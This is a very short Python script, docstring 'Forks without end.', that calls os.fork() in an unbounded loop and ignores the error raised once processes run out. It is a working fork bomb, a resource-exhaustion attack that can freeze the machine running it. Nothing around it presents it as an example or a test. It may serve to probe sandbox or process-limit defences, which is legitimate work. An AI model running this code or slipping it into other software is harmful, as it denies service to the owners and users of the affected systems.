"""Forks without end."""

import os

try:
    while True:
        os.fork()
except OSError:
    pass
